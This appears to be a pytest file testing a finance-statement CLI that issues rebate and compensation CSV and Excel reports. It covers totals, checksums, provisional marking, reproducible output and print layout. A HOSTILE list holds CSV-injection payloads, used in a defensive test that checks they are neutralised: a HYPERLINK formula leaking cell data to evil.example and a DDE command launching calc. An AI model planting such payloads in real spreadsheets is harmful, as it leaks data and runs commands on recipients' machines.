"""Finance statements: final figures only, totals and checksums that match the warehouse."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import json
import os
import re
import subprocess
import sys
import time
import zipfile
from decimal import Decimal

import duckdb
import pytest
from openpyxl import load_workbook

from fullsite.layout import Layout
from publications.statements import compensation_statement
from tests.conftest import FIRST, NEXT, copy_root
from tests.published import query


@pytest.fixture(scope="module")
def july_final(next_night_root, tmp_path_factory):
    """Published through 2024-08-02 (data through NEXT, late_days 2): July's rebates are final,
    compensation is final through 2024-07-31. A copy: issuing appends to the root's register.

    Night: the shared next night, made in tests/conftest.py (next_night)."""
    return copy_root(next_night_root, tmp_path_factory.mktemp("statements") / "root")


def cli(*args):
    return subprocess.run(
        [sys.executable, "-m", "orchestration.cli", *args], capture_output=True, text=True
    )


def test_rebate_statement_matches_the_warehouse(july_final, tmp_path):
    out = tmp_path / "stmt"
    result = cli(
        "report", "rebates", "--data-root", str(july_final), "--month", "2024-07", "--out", str(out)
    )
    assert result.returncode == 0, result.stderr
    assert f"{out / 'rebates-2024-07.manifest.json'} (sign-off" in result.stdout
    manifest = json.loads((out / "rebates-2024-07.manifest.json").read_text())
    ((n, total),) = query(
        july_final / "warehouse.duckdb",
        "select count(*), sum(rebate_amount) from finance.merchant_rebates_monthly where month = "
        "DATE '2024-07-01' and status = 'final'",
    )
    assert manifest["rows"] == n and Decimal(manifest["totals"]["rebate_amount"]) == total
    for name, meta in manifest["files"].items():
        assert hashlib.sha256((out / name).read_bytes()).hexdigest() == meta["sha256"]
    lines = list(csv.reader(open(out / "rebates-2024-07.csv")))
    # the CSV keeps the warehouse's names
    assert lines[0][:3] == [
        "merchant_id",
        "merchant_name",
        "merchant_tier",
    ]
    assert len(lines) == n + 2 and lines[-1][0] == "TOTAL"
    assert sum(Decimal(r[-1]) for r in lines[1:-1]) == Decimal(lines[-1][-1]) == total
    sheet = load_workbook(out / "rebates-2024-07.xlsx").active
    assert sheet.max_row == n + 2 and sheet.cell(sheet.max_row, 1).value == "TOTAL"


def test_a_month_not_final_is_a_clear_error(july_final):
    result = cli("report", "rebates", "--data-root", str(july_final), "--month", "2024-08")
    assert (
        result.returncode == 2
        and "not final yet" in result.stderr
        and "--provisional" in result.stderr
    )
    assert len(result.stderr.strip().splitlines()) == 1


def test_a_range_without_final_compensation_is_a_clear_error(july_final):
    result = cli(
        "report",
        "compensation",
        "--data-root",
        str(july_final),
        "--from",
        "2024-07-01",
        "--to",
        "2024-07-02",
    )
    assert result.returncode == 2 and "no final compensation" in result.stderr


def test_a_partial_month_says_where_its_data_starts(july_final, tmp_path):
    assert (
        cli(
            "report",
            "rebates",
            "--data-root",
            str(july_final),
            "--month",
            "2024-07",
            "--out",
            str(tmp_path),
        ).returncode
        == 0
    )
    manifest = json.loads((tmp_path / "rebates-2024-07.manifest.json").read_text())
    coverage = manifest["coverage"]
    assert coverage["partial"] == f"partial: data from {FIRST}" and coverage["covered_from"] == str(
        FIRST
    )
    assert coverage["covered_to"] == "2024-07-31" and coverage["data_through"] == str(NEXT)
    notes = {
        r[0].value: r[1].value
        for r in load_workbook(tmp_path / "rebates-2024-07.xlsx")["Notes"].iter_rows()
    }
    assert (
        f"(partial: data from {FIRST})" in notes["Coverage"]
        and f"data through {NEXT}" in notes["Coverage"]
    )
    assert "closed" not in notes["Statement"]


def test_a_reissue_replaces_its_own_files_whole_with_the_same_bytes(july_final, tmp_path):
    args = [
        "report",
        "rebates",
        "--data-root",
        str(july_final),
        "--month",
        "2024-07",
        "--out",
        str(tmp_path),
    ]
    assert cli(*args).returncode == 0
    first = {p.name: (p.read_bytes(), p.stat().st_ino) for p in tmp_path.iterdir()}
    time.sleep(1.1)  # a second later: zip times and document properties must not follow the clock
    assert cli(*args).returncode == 0
    second = {p.name: (p.read_bytes(), p.stat().st_ino) for p in tmp_path.iterdir()}
    assert set(second) == set(first)  # no temporary file left behind
    for name in ("rebates-2024-07.csv", "rebates-2024-07.xlsx"):
        assert second[name][0] == first[name][0], name
        # a new file swapped in, never rewritten in place
        assert second[name][1] != first[name][1], name


def test_statements_go_to_the_data_roots_statement_folder_by_default(july_final):
    result = cli("report", "rebates", "--data-root", str(july_final), "--month", "2024-07")
    assert result.returncode == 0, result.stderr
    assert (Layout(july_final).statements / "rebates-2024-07.manifest.json").exists()


@pytest.mark.parametrize(
    "args, message",
    [
        (["run", "--data-root", "/nonexistent/root", "--date", "2024-08-01"], "unknown data root"),
        (["run", "--data-root", ".", "--date", "2024-8-1"], "--date must be a date"),
        (
            ["report", "rebates", "--data-root", ".", "--month", "July"],
            "--month must be a month YYYY-MM, got 'July'",
        ),
        (
            ["explain", "rebate", "M00001", "2024-7", "--data-root", "."],
            "MONTH must be a month YYYY-MM, got '2024-7'",
        ),
        (
            ["backfill", "--data-root", ".", "--from", "2024-08-02", "--to", "2024-08-01"],
            "is before --from",
        ),
    ],
)
def test_bad_arguments_get_one_line(args, message):
    result = cli(*args)
    assert result.returncode == 2 and message in result.stderr, result.stderr
    assert len(result.stderr.strip().splitlines()) == 1 and "Traceback" not in result.stderr


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-3+4",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "bell\x07name",
]


FAKE_FROM, FAKE_THROUGH = dt.date(2024, 7, 5), dt.date(2024, 8, 3)
# late_days 2: the last close date that can be final
FAKE_FINAL = FAKE_THROUGH - dt.timedelta(days=2)


def _fake_warehouse(root, names=("M one", "M two"), ids=("A-v1", "B-v1")):
    """The tables the compensation statement reads, with known final claims."""
    root.mkdir(parents=True, exist_ok=True)
    con = duckdb.connect(str(root / "warehouse.duckdb"))
    con.execute("create schema finance")
    con.execute("create schema marts")
    con.execute(f"""create table finance.compensation_claims as select * from (values
        ('{ids[0]}','A','M1','P1',DATE '2024-07-01',DATE '2024-07-07',DATE
            '2024-07-01','final',1000.00::decimal(18,2),2100.00::decimal(18,2),3.00::decimal(10,2),2.1::double,'tier_2','compensated',222.22::decimal(18,2)),
        ('{ids[1]}','B','M2','P2',DATE '2024-07-02',DATE '2024-07-08',DATE
            '2024-07-01','final',300.00::decimal(18,2),100.00::decimal(18,2),2.00::decimal(10,2),0.333::double,'tier_1','compensated',244.44::decimal(18,2)),
        ('C-v1','C','M2','P3',DATE '2024-07-02',DATE '2024-07-08',DATE
            '2024-07-01','final',300.00::decimal(18,2),900.00::decimal(18,2),2.00::decimal(10,2),3.0::double,'tier_1','target_met',0.00::decimal(18,2)),
        ('D-v1','D','M2','P4',DATE '2024-07-02',NULL,DATE
            '2024-07-01','void',300.00::decimal(18,2),0.00::decimal(18,2),2.00::decimal(10,2),0.0::double,'tier_1','void_settings_changed',0.00::decimal(18,2))
        ) t(campaign_version_id, campaign_id, merchant_id, product_id, start_date, close_date,
            settlement_month, status, spend, gmv, target_roi, roi, roi_choice, reason,
                compensation_amount)""")
    # what dbt's model says a compensation line is
    con.execute("""create table finance.statement_lines as
                   select 'compensation' as statement_kind, close_date as period_date,
                       campaign_version_id as line_key,
                          merchant_id, m.money_column, m.value
                   from finance.compensation_claims,
                        lateral (select unnest(['spend', 'gmv', 'compensation_amount']) as
                            money_column,
                                        unnest([spend, gmv, compensation_amount]) as value) m
                   where status = 'final' and compensation_amount > 0""")
    con.execute("create table marts.dim_merchant (merchant_id varchar, merchant_name varchar)")
    con.execute("insert into marts.dim_merchant values ('M1', ?), ('M2', ?)", list(names))
    # the file's own build record, as every published warehouse has
    con.execute("create schema params")
    con.execute("""create table params.warehouse_build as select 'p' as fingerprint, 'c' as
                    content_fingerprint,
                   TIMESTAMPTZ '2024-08-03 20:00:00+00' as built_at, DATE '2024-08-03' as
                       data_through,
                   'r' as run_id, 'd' as dagster_run_id""")
    con.execute(
        "create table params.rule_parameters as select * from (values ('protection_trigger', "
        "'0.90', ''), ('min_protected_spend', '100.00', ''), ('late_days', '2', ''), "
        "('window_spend_days', '7', ''), ('window_max_days', '15', '')) t(parameter, value, note)"
    )
    con.execute("create schema dq")  # ingested 2024-07-05 … 2024-08-03, as the demo
    con.execute(
        f"create table dq.ingest_reconciliation as select DATE '{FAKE_FROM}' + k::int as "
        f"ingest_date from range(30) t(k)"
    )
    con.close()
    (root / "raw").mkdir()
    return Layout(root)


@pytest.mark.parametrize("last", [str(FAKE_FINAL + dt.timedelta(days=1)), "2031-12-31"])
def test_a_compensation_range_past_the_data_is_refused_naming_the_last_final_date(tmp_path, last):
    layout = _fake_warehouse(tmp_path)
    result = cli(
        "report",
        "compensation",
        "--data-root",
        str(layout.root),
        "--from",
        "2024-07-01",
        "--to",
        last,
    )
    assert result.returncode == 2 and len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert (
        f"--to must be {FAKE_FINAL} or earlier" in result.stderr
        and f"data through {FAKE_THROUGH}" in result.stderr
    )
    assert not layout.statements.exists()  # nothing issued


def test_a_provisional_statement_says_so_on_every_page_and_in_its_manifest(tmp_path):
    layout = _fake_warehouse(tmp_path)
    result = cli(
        "report",
        "compensation",
        "--data-root",
        str(layout.root),
        "--from",
        "2024-07-01",
        "--to",
        "2024-08-31",
        "--provisional",
    )
    assert result.returncode == 0, result.stderr
    assert (
        result.stdout.startswith("PROVISIONAL compensation")
        and f"data through {FAKE_THROUGH}" in result.stdout
    )
    stem = "compensation-2024-07-01-2024-08-31-provisional"
    manifest = json.loads((layout.statements / f"{stem}.manifest.json").read_text())
    assert manifest["provisional"] is True and manifest["coverage"]["data_through"] == str(
        FAKE_THROUGH
    )
    assert manifest["coverage"]["final_through"] == str(FAKE_FINAL)
    assert (
        manifest["coverage"]["partial"]
        == f"partial: data from {FAKE_FROM}, data through {FAKE_THROUGH}"
    )
    book = load_workbook(layout.statements / f"{stem}.xlsx")
    for sheet in book.worksheets:  # every page of every sheet: a banner, large and red
        for header in (sheet.oddHeader, sheet.evenHeader, sheet.firstHeader):
            assert header.center.text == "PROVISIONAL · NOT FOR SETTLEMENT"
            assert header.center.size == 16 and header.center.color == "C00000"
        assert f"data through {FAKE_THROUGH}" in sheet.oddFooter.left.text
    notes = {r[0].value: r[1].value for r in book["Notes"].iter_rows()}
    assert (
        "not final yet" in notes["PROVISIONAL"]
        and f"figures final through {FAKE_FINAL} only" in notes["Coverage"]
    )
    assert list(csv.reader(open(layout.statements / f"{stem}.csv")))[-1][0] == "TOTAL (PROVISIONAL)"
    final = cli(
        "report",
        "compensation",
        "--data-root",
        str(layout.root),
        "--from",
        "2024-07-01",
        "--to",
        str(FAKE_FINAL),
        "--provisional",
    )  # nothing past the final date: issued as final, whatever the flag says
    assert final.returncode == 0 and final.stdout.startswith("compensation"), final.stderr


def test_two_statements_in_one_folder_keep_their_own_manifests(july_final, tmp_path):
    out = tmp_path / "out"
    assert (
        cli(
            "report",
            "rebates",
            "--data-root",
            str(july_final),
            "--month",
            "2024-07",
            "--out",
            str(out),
        ).returncode
        == 0
    )
    rebate_files = {p.name: p.read_bytes() for p in out.iterdir()}
    assert sorted(rebate_files) == [
        "rebates-2024-07.csv",
        "rebates-2024-07.manifest.json",
        "rebates-2024-07.xlsx",
    ]
    layout = _fake_warehouse(tmp_path / "other")
    result = cli(
        "report",
        "compensation",
        "--data-root",
        str(layout.root),
        "--from",
        "2024-07-01",
        "--to",
        "2024-07-31",
        "--out",
        str(out),
    )
    assert result.returncode == 0, result.stderr
    stem = "compensation-2024-07-01-2024-07-31"
    assert sorted(p.name for p in out.iterdir()) == sorted(
        [*rebate_files, f"{stem}.csv", f"{stem}.manifest.json", f"{stem}.xlsx"]
    )
    assert {n: (out / n).read_bytes() for n in rebate_files} == rebate_files  # untouched


def test_compensation_statement_totals(tmp_path):
    out, issued = compensation_statement(
        _fake_warehouse(tmp_path), dt.date(2024, 7, 1), dt.date(2024, 7, 31)
    )
    manifest = issued.manifest
    assert manifest["rows"] == 2 and manifest["totals"]["compensation_amount"] == "466.66"
    lines = list(csv.reader(open(out / "compensation-2024-07-01-2024-07-31.csv")))
    assert [r[0] for r in lines[1:]] == ["A-v1", "B-v1", "TOTAL"] and lines[-1][-1] == "466.66"
    assert lines[0][3] == "merchant_name" and lines[1][3] == "M one" and "achievement" in lines[0]
    sheet = load_workbook(out / "compensation-2024-07-01-2024-07-31.xlsx")
    assert sheet.sheetnames == ["comp 2024-07-01..2024-07-31", "Notes"]


def test_no_cell_from_data_is_ever_a_formula(tmp_path):
    """OWASP CSV injection: names and ids that a spreadsheet would run."""
    out, _ = compensation_statement(
        _fake_warehouse(tmp_path, names=HOSTILE[:2], ids=HOSTILE[2:4]),
        dt.date(2024, 7, 1),
        dt.date(2024, 7, 31),
    )
    xlsx = out / "compensation-2024-07-01-2024-07-31.xlsx"
    with zipfile.ZipFile(xlsx) as z:
        assert not any(
            "<f>" in z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")
        )
    values = {c.value for row in load_workbook(xlsx).active.iter_rows() for c in row}
    assert set(HOSTILE[:4]) <= values  # shown exactly as written, as text
    text = (out / "compensation-2024-07-01-2024-07-31.csv").read_text()
    for bad in HOSTILE[:4]:
        cell = bad.replace('"', '""')
        assert f"'{cell}" in text and not re.search(r"(^|,)\"?" + re.escape(cell), text, re.M)


def test_cell_text_is_neutralised_and_illegal_characters_kept_visible():
    from publications.workbook import ILLEGAL, csv_text

    assert [csv_text(v) for v in HOSTILE[2:7]] == ["'" + v for v in HOSTILE[2:7]]
    assert csv_text("Merchant 1") == "Merchant 1" and csv_text("") == ""
    assert ILLEGAL.sub(lambda m: f"\\x{ord(m.group()):02x}", HOSTILE[7]) == "bell\\x07name"


def test_a_statement_reissued_from_the_same_warehouse_is_byte_identical(july_final, tmp_path):
    """Night: the shared next night, made in tests/conftest.py (next_night)."""
    first, second = tmp_path / "one", tmp_path / "two"
    assert (
        cli(
            "report",
            "rebates",
            "--data-root",
            str(july_final),
            "--month",
            "2024-07",
            "--out",
            str(first),
        ).returncode
        == 0
    )
    time.sleep(1.1)  # a second later: zip times and document properties must not follow the clock
    assert (
        cli(
            "report",
            "rebates",
            "--data-root",
            str(july_final),
            "--month",
            "2024-07",
            "--out",
            str(second),
        ).returncode
        == 0
    )
    for name in ("rebates-2024-07.csv", "rebates-2024-07.xlsx"):
        assert (first / name).read_bytes() == (second / name).read_bytes(), name
    manifest = json.loads((first / "rebates-2024-07.manifest.json").read_text())
    asof = manifest["as_of"]
    assert asof["warehouse_fingerprint"] and asof["warehouse_built_at"] and asof["rules_sha256"]
    assert asof["last_published_ingest_date"] == str(NEXT) and asof["last_run_id"].startswith(
        str(NEXT)
    )
    assert asof["code"]["package"] and manifest["period"] == "2024-07" and manifest["generated_at"]


def test_the_rebate_workbook_reads_like_a_statement(july_final, tmp_path):
    result = cli(
        "report",
        "rebates",
        "--data-root",
        str(july_final),
        "--month",
        "2024-07",
        "--out",
        str(tmp_path),
    )
    assert "totals (CNY) spend" in result.stdout and "{" not in result.stdout  # no Python dict
    book = load_workbook(tmp_path / "rebates-2024-07.xlsx")
    sheet = book["rebates 2024-07"]
    header = [c.value for c in sheet[1]]
    assert header == [
        "Merchant ID",
        "Merchant",
        "Tier",
        "Month",
        "Spend (CNY)",
        "Compensation netted (CNY)",
        "Rebate base (CNY)",
        "Rebate rate (%)",
        "Rebate (CNY)",
    ]  # people's words, with units
    assert (
        all(c.font.bold for c in sheet[1])
        and sheet.freeze_panes == "A2"
        and sheet.auto_filter.ref.startswith("A1:")
    )
    row = dict(zip(header, sheet[2], strict=True))
    # shows 2024-07
    assert isinstance(row["Month"].value, dt.datetime) and row["Month"].number_format == "yyyy-mm"
    assert (
        row["Rebate rate (%)"].number_format == "0.00%"
        and row["Spend (CNY)"].number_format == "#,##0.00"
    )
    total = sheet[sheet.max_row]
    assert total[0].value == "TOTAL" and total[0].font.bold
    notes = {r[0].value: r[1].value for r in book["Notes"].iter_rows()}
    assert "Rates in force: sme" in notes and "≥ 3,000: 0.8 %" in notes["Rates in force: sme"]
    assert (
        "gap" in notes["Spend tie-out"] and "As of" in notes and "Rebate (CNY)" in notes["Control"]
    )


def test_every_sheet_is_set_up_to_print(july_final, tmp_path):
    """What makes the pages print (D44; the PDF itself is looked at in
    tests/slow/test_statement_pdf.py)."""
    assert (
        cli(
            "report",
            "rebates",
            "--data-root",
            str(july_final),
            "--month",
            "2024-07",
            "--out",
            str(tmp_path),
        ).returncode
        == 0
    )
    book = load_workbook(tmp_path / "rebates-2024-07.xlsx")
    for sheet in book.worksheets:
        setup = sheet.page_setup
        assert setup.orientation == "landscape" and sheet.sheet_properties.pageSetUpPr.fitToPage
        assert (setup.fitToWidth, setup.fitToHeight) == (1, 0)  # one page wide
        for header in (sheet.oddHeader, sheet.evenHeader, sheet.firstHeader):
            assert header.left.text == "Monthly rebates" and header.right.text == "2024-07"
        for footer in (sheet.oddFooter, sheet.evenFooter, sheet.firstFooter):
            assert footer.center.text == "Page &P of &N" and footer.left.text.startswith(
                "As of build "
            )
            assert footer.right.text == "rebates-2024-07"
        fonts = {c.font.sz for r in sheet.iter_rows() for c in r if c.value is not None}
        assert fonts == {10}
    assert book["rebates 2024-07"].print_title_rows == "$1:$1"  # the heading row on every page
    notes = book["Notes"]
    assert notes.column_dimensions["B"].width >= 90
    for _heading, b in notes.iter_rows():
        assert b.alignment.wrap_text
        if len(b.value) > 100:  # a wrapped line gets the height its lines need
            assert notes.row_dimensions[b.row].height >= 2 * 12.75


def test_explain_reproduces_a_rebate_from_its_inputs(july_final):
    """Night: the shared next night, made in tests/conftest.py (next_night)."""
    ((merchant, rebate),) = query(
        july_final / "warehouse.duckdb",
        """select merchant_id, rebate_amount
        from finance.merchant_rebates_monthly where month = DATE '2024-07-01' order by
            rebate_amount desc limit 1""",
    )
    shown = cli("explain", "rebate", merchant, "2024-07", "--data-root", str(july_final))
    assert shown.returncode == 0, shown.stderr
    assert (
        f"= {rebate:,.2f}" in shown.stdout
        and f"result:    {rebate:,.2f} CNY" in shown.stdout
        and "reached:" in shown.stdout
    )
    unknown = cli("explain", "compensation", "X-v9", "--data-root", str(july_final))
    assert (
        unknown.returncode == 2
        and unknown.stderr.strip()
        == f"error: unknown campaign version 'X-v9' in {july_final / 'warehouse.duckdb'}"
    )


def test_explain_reproduces_the_specs_compensation_example(tmp_path):
    """rules.md's example: target 3.00, spend 1,000.00, GMV 2,100.00 → 222.22."""
    layout = _fake_warehouse(tmp_path)
    con = duckdb.connect(str(layout.warehouse))
    con.execute("alter table finance.compensation_claims add column eligible boolean default true")
    con.execute("alter table finance.compensation_claims add column triggered boolean default true")
    con.execute(
        "alter table finance.compensation_claims add column protection_line_gmv decimal(38,8)"
    )
    con.execute(
        "alter table finance.compensation_claims add column compensation_unrounded decimal(38,10)"
    )
    con.execute(
        "update finance.compensation_claims set protection_line_gmv = 0.90 * target_roi * spend, "
        "compensation_unrounded = 222.2222222222 where campaign_version_id = 'A-v1'"
    )
    con.execute("""create table marts.dim_campaign_versions as select 'A-v1' campaign_version_id,
                    'A' campaign_id,
                   1 version_no, 'M1' merchant_id, 'P1' product_id, TIMESTAMPTZ
                       '2024-07-01 02:00:00+00' valid_from,
                   null::timestamptz valid_to, DATE '2024-07-01' start_date, 200.00::decimal(18,2)
                       daily_budget,
                   3.00::decimal(10,2) target_roi, 'tier_2' roi_choice, true is_tagged""")
    con.execute("""create table marts.campaign_roi_7d as select 'A-v1' campaign_version_id, DATE
                    '2024-07-07' close_date,
                   7 spend_days, 1000.00::decimal(18,2) spend, 2100.00::decimal(18,2) gmv,
                       2.1::double roi,
                   0.7::double achievement, 'final' status""")
    con.execute("""create table marts.fct_campaign_daily as select 'A-v1' campaign_version_id,
                   DATE '2024-07-01' + k::int as business_date, (1000.00 / 7)::decimal(18,2) + (k
                       = 0)::int * 0.06 as spend,
                   300.00::decimal(18,2) as gmv from range(7) t(k)""")
    con.close()
    from publications.explain import compensation

    lines = "\n".join(compensation(layout, "A-v1"))
    assert "round2(1,000.00 − 2,100.00 / (0.90 × 3.00)) = round2(222.2222222222) = 222.22" in lines
    assert "result:    222.22 CNY, reason compensated, status final, settled in 2024-07" in lines
    assert "2024-07-07" in lines and "(achievement 70.00%)" in lines


def test_the_register_lists_every_statement_issued_and_is_published(a_night_later, tmp_path):
    """The view reads the register of the root its night was built in (D44): a_night_later's own."""
    from publications import register

    layout = Layout(a_night_later)
    before = len(register.issued(layout))
    for args in (["--month", "2024-07"], ["--month", "2024-08", "--provisional"]):
        result = cli(
            "report", "rebates", "--data-root", str(a_night_later), *args, "--out", str(tmp_path)
        )
        assert result.returncode == 0, result.stderr
    rows = register.issued(layout)[before:]
    assert [(r["statement"], r["period"], r["provisional"]) for r in rows] == [
        ("rebates", "2024-07", False),
        ("rebates", "2024-08", True),
    ]
    ((fingerprint,),) = query(
        layout.warehouse, "select content_fingerprint from params.warehouse_build"
    )
    for r in rows:
        manifest = json.loads((tmp_path / f"{r['stem']}.manifest.json").read_text())
        assert json.loads(r["files"]) == {n: f["sha256"] for n, f in manifest["files"].items()}
        assert (
            r["warehouse_fingerprint"] == fingerprint
            and r["data_through"] == NEXT + dt.timedelta(days=1)
            and r["issued_at"]
        )
    published = query(
        layout.warehouse, "select stem, warehouse_fingerprint from finance.statement_register"
    )
    # the view reads the register as it is
    assert published[before:] == [(r["stem"], fingerprint) for r in rows]
    ((described,),) = query(
        layout.warehouse,
        """select comment from duckdb_views()
                                               where schema_name = 'finance' and view_name =
                                                   'statement_register'""",
    )
    assert "Every finance statement issued" in described


def test_verify_recognises_an_issued_file_and_rejects_a_changed_one(july_final, tmp_path):
    assert (
        cli(
            "report",
            "rebates",
            "--data-root",
            str(july_final),
            "--month",
            "2024-07",
            "--out",
            str(tmp_path),
        ).returncode
        == 0
    )
    ((fingerprint,),) = query(
        july_final / "warehouse.duckdb", "select content_fingerprint from params.warehouse_build"
    )
    issued = tmp_path / "rebates-2024-07.csv"
    ok = cli(
        "report",
        "verify",
        str(issued),
        str(tmp_path / "rebates-2024-07.xlsx"),
        "--data-root",
        str(july_final),
    )
    assert ok.returncode == 0, ok.stderr
    assert (
        "issued as rebates-2024-07.csv — rebates 2024-07" in ok.stdout
        and f"build {fingerprint[:12]}" in ok.stdout
    )
    changed = tmp_path / "changed.csv"
    changed.write_text(issued.read_text().replace("TOTAL", "TOTAL ", 1))
    bad = cli("report", "verify", str(issued), str(changed), "--data-root", str(july_final))
    assert bad.returncode == 1 and f"{changed}: NOT a statement issued" in bad.stdout
    missing = cli("report", "verify", str(tmp_path / "nope.csv"), "--data-root", str(july_final))
    assert (
        missing.returncode == 2
        and missing.stderr.strip() == f"error: {tmp_path / 'nope.csv'} is not a file"
    )


def test_a_final_month_reissued_from_a_newer_build_has_the_same_lines(
    july_final, a_night_later, tmp_path
):
    """Final figures never change: July from the build of NEXT and from the build of the night
    after."""
    for root, out in ((july_final, tmp_path / "then"), (a_night_later, tmp_path / "later")):
        assert (
            cli(
                "report",
                "rebates",
                "--data-root",
                str(root),
                "--month",
                "2024-07",
                "--out",
                str(out),
            ).returncode
            == 0
        )
    then, later = (
        json.loads((tmp_path / d / "rebates-2024-07.manifest.json").read_text())
        for d in ("then", "later")
    )
    assert later["coverage"]["data_through"] == str(NEXT + dt.timedelta(days=1))
    # two builds …
    assert then["as_of"]["warehouse_fingerprint"] != later["as_of"]["warehouse_fingerprint"]
    assert (tmp_path / "then" / "rebates-2024-07.csv").read_bytes() == (
        tmp_path / "later" / "rebates-2024-07.csv"
    ).read_bytes()  # … the same lines


def test_a_night_published_while_a_statement_is_drawn_changes_nothing_it_reads(
    july_final, a_night_later, tmp_path, monkeypatch
):
    """The attack of issue 37: a newer build replaces the file after the statement opened it.
    Its rows, its control totals and its as-of all come from the build it opened."""
    import shutil

    from publications import statements

    root = copy_root(july_final, tmp_path / "root")
    layout = Layout(root)
    newer = tmp_path / "newer.duckdb"
    shutil.copy(Layout(a_night_later).warehouse, newer)
    real_build = statements.build

    def build_then_publish(con):
        if newer.exists():
            # how a night publishes (orchestration/warehouse.publish)
            os.replace(newer, layout.warehouse)
        return real_build(con)

    monkeypatch.setattr(statements, "build", build_then_publish)
    august = dt.date(2024, 8, 1)
    out, issued = statements.rebates_statement(layout, august, tmp_path / "out", provisional=True)
    manifest = issued.manifest
    assert not newer.exists()  # the newer build was published under the statement
    sql = """select sum(spend) from finance.merchant_rebates_monthly where month = DATE
              '2024-08-01'"""
    (opened,), (published,) = (
        query(july_final / "warehouse.duckdb", sql)[0],
        query(layout.warehouse, sql)[0],
    )
    assert opened != published  # the two builds differ on August …
    # … and the statement is all the one it opened
    assert Decimal(manifest["totals"]["spend"]) == opened
    ((fingerprint,),) = query(
        july_final / "warehouse.duckdb", "select content_fingerprint from params.warehouse_build"
    )
    assert manifest["as_of"]["warehouse_fingerprint"] == fingerprint
    assert manifest["coverage"]["data_through"] == str(NEXT)


def test_an_out_that_is_a_file_is_one_line(july_final, tmp_path):
    taken = tmp_path / "taken"
    taken.write_text("")
    result = cli(
        "report",
        "rebates",
        "--data-root",
        str(july_final),
        "--month",
        "2024-07",
        "--out",
        str(taken),
    )
    assert (
        result.returncode == 2
        and result.stderr.strip() == f"error: --out {taken} is a file, not a folder"
    )
    below = cli(
        "report",
        "rebates",
        "--data-root",
        str(july_final),
        "--month",
        "2024-07",
        "--out",
        str(taken / "sub"),
    )
    assert below.returncode == 2 and below.stderr.startswith(
        f"error: cannot write the statement to {taken / 'sub'}"
    )
    assert len(below.stderr.strip().splitlines()) == 1


@pytest.mark.slow
def test_the_printed_pages_have_headers_page_numbers_and_readable_notes(tmp_path):
    """The workbook through LibreOffice to PDF, as finance prints it (D44): every page has the
    statement, its period, PROVISIONAL and "Page x of y"; no text, Notes included, under 9 pt."""
    import shutil

    soffice, pdftotext = shutil.which("soffice"), shutil.which("pdftotext")
    if not (soffice and pdftotext):
        pytest.skip(
            "needs LibreOffice and poppler: apt-get install libreoffice-calc-nogui poppler-utils"
        )
    layout = _fake_warehouse(
        tmp_path / "root", names=("Merchant with a name long enough to wrap in its column", "M two")
    )
    _, issued = compensation_statement(
        layout, dt.date(2024, 7, 1), dt.date(2024, 8, 31), tmp_path / "out", provisional=True
    )
    manifest = issued.manifest
    xlsx = tmp_path / "out" / f"{manifest['stem']}.xlsx"
    subprocess.run(
        [
            soffice,
            "--headless",
            f"-env:UserInstallation=file://{tmp_path}/lo",
            "--convert-to",
            "pdf",
            "--outdir",
            str(tmp_path),
            str(xlsx),
        ],
        check=True,
        capture_output=True,
        timeout=300,
    )
    bbox = subprocess.run(
        [pdftotext, "-bbox", str(tmp_path / f"{manifest['stem']}.pdf"), "-"],
        check=True,
        capture_output=True,
        text=True,
    ).stdout
    pages = re.findall(r"<page .*?</page>", bbox, re.S)
    assert len(pages) == 2  # the statement on one page wide, the Notes on the next
    for n, page in enumerate(pages, start=1):
        words = re.findall(r'yMin="([\d.]+)" xMax="[\d.]+" yMax="([\d.]+)">([^<]*)<', page)
        text = " ".join(w for *_, w in words)
        assert (
            "Compensation by close date" in text
            and "PROVISIONAL" in text
            and f"Page {n} of 2" in text
        )
        assert "2024-07-01 to 2024-08-31" in text and f"data through {FAKE_THROUGH}" in text
        # Liberation Sans (Arial's metric twin) sets a word's box 1.3 × its point size high
        assert min((float(b) - float(a)) / 1.3 for a, b, _ in words) >= 9 - 0.05, n
    assert "round2(spend" in pages[1] and "Achievement" in pages[0] and "(%)" in pages[0]


def test_a_name_longer_than_a_cell_is_cut_and_said_so_in_the_cell_and_the_notes(tmp_path):
    """Issue 47: a 100,000-character merchant name. The CSV keeps it whole; the workbook cuts
    it to what a cell holds and marks the cut there and in the Notes (D46)."""
    from publications.workbook import CELL_MAX, cut_mark

    long_name = "N" * 100_000
    out, _ = compensation_statement(
        _fake_warehouse(tmp_path, names=(long_name, "M two")),
        dt.date(2024, 7, 1),
        dt.date(2024, 7, 31),
    )
    stem = "compensation-2024-07-01-2024-07-31"
    assert long_name in (out / f"{stem}.csv").read_text()
    book = load_workbook(out / f"{stem}.xlsx")
    cell = next(
        c.value
        for row in book.active.iter_rows()
        for c in row
        if isinstance(c.value, str) and c.value.startswith("NNN")
    )
    assert len(cell) == CELL_MAX and cell.endswith(cut_mark(100_000))
    notes = {r[0].value: r[1].value for r in book["Notes"].iter_rows()}
    assert (
        "row 2 (Merchant, 100,000 characters)" in notes["Cut"]
        and "The CSV holds it whole" in notes["Cut"]
    )
